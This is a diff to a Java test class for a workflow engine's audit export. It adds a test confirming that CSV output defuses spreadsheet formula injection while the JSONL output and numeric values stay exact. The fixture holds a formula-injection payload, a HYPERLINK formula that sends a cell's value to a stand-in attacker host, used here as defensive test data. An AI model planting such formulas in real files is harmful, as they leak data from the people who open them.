@@ -66,8 +66,10 @@ import org.springframework.test.context.ContextConfiguration;
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class AuditExportTest {
 
-    static final String PASSWORD = "audit-test-password";
+    static final String PASSWORD = "Audit-Test-Passw0rd";
     static final String AUDITOR = "axauditor";
+    /** What a spreadsheet would run: a link that sends the reader elsewhere. */
+    static final String FORMULA_COMMENT = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击查看\")";
     static final byte[] ATTACHMENT = "第一季度进度证明材料".getBytes(StandardCharsets.UTF_8);
 
     @Autowired
@@ -119,6 +121,8 @@ class AuditExportTest {
             engine.getTaskService().createAttachment("text/plain", task.getId(), instance, "进度证明（第一季度）.txt", "测试附件",
                     new ByteArrayInputStream(ATTACHMENT));
             engine.getTaskService().createComment(task.getId(), instance, "审计测试评论：请补充说明");
+            engine.getTaskService().createComment(task.getId(), instance, FORMULA_COMMENT);
+            engine.getTaskService().setVariable(task.getId(), "auditDelta", -5L);
             engine.getRuntimeService().createIncident("auditTest", task.getExecutionId(), "cfg", "模拟故障：外部系统无响应");
         } finally {
             engine.getIdentityService().clearAuthentication();
@@ -246,6 +250,32 @@ class AuditExportTest {
                 .allSatisfy(row -> assertThat(row.get("start_time").asText()).startsWith("2024-02-"))
                 .anySatisfy(row -> assertThat(row.get("activity_name").asText()).contains("进度填报"));
         assertThat(ExportVerifier.verify(file).problems()).isEmpty();
+    }
+
+    @Test
+    void formulaTextIsNeutralisedInCsvWhileNumbersAndJsonLinesStayExactAndBothVerify(@org.junit.jupiter.api.io.TempDir Path folder)
+            throws IOException {
+        Path csvFile = folder.resolve("one.zip");
+        Path jsonFile = folder.resolve("one-jsonl.zip");
+        export(filterOf(commitment), ExportFormat.CSV, csvFile);
+        export(filterOf(commitment), ExportFormat.JSONL, jsonFile);
+
+        List<List<String>> comments = csv(unzip(csvFile).get("comment.csv"));
+        int message = comments.get(0).indexOf("message");
+        assertThat(comments).extracting(row -> row.get(message)).contains("'" + FORMULA_COMMENT).doesNotContain(FORMULA_COMMENT);
+        List<List<String>> changes = csv(unzip(csvFile).get("variable_change.csv"));
+        int name = changes.get(0).indexOf("name");
+        int newValue = changes.get(0).indexOf("new_value");
+        assertThat(changes).filteredOn(row -> "auditDelta".equals(row.get(name))).extracting(row -> row.get(newValue))
+                .containsExactly("-5");
+        ObjectMapper json = new ObjectMapper();
+        List<String> jsonMessages = new ArrayList<>();
+        for (String line : new String(unzip(jsonFile).get("comment.jsonl"), StandardCharsets.UTF_8).split("\n")) {
+            jsonMessages.add(json.readTree(line).get("message").asText());
+        }
+        assertThat(jsonMessages).contains(FORMULA_COMMENT);
+        assertThat(ExportVerifier.verify(csvFile).problems()).isEmpty();
+        assertThat(ExportVerifier.verify(jsonFile).problems()).isEmpty();
     }
 
     @Test
